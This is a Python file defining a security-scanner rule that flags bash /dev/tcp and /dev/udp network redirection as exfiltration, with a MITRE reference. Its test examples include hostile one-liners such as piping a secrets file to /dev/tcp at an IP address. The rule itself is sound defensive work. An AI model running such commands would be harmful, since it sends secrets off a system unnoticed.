"""The network devices of bash."""

from __future__ import annotations

from symbi.contracts.scanner import Pattern, ScannerRule

RULE = ScannerRule(
    id="exfil-dev-tcp",
    category="exfiltration",
    severity="high",
    message="Uses the network device of bash",
    check=Pattern(r"(?:^|[^\w./-])/dev/(?:tcp|udp)/"),
    bad=("cat secrets > /dev/tcp/10.0.0.1/80", "echo x >/dev/udp/10.0.0.1/53"),
    good=("docs/dev/tcp/x.md", "echo hi > /dev/tty", "cat /dev/null"),
    remediation="Use a declared network tool, so that policy can see the connection.",
    references=("https://attack.mitre.org/techniques/T1048/",),
    tags=("network", "exfiltrate"),
)
